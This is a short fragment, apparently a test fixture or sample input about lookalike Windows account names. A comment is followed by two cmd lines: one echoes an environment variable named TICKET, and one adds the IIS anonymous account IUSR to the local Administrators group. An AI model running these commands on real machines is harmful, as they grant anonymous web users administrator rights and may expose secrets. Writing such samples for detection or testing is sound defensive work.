# An account whose name begins with a letter of private use is not IUSR.
cmd /c "echo $env:TICKET"
cmd /c "net localgroup Administrators IUSR /add"
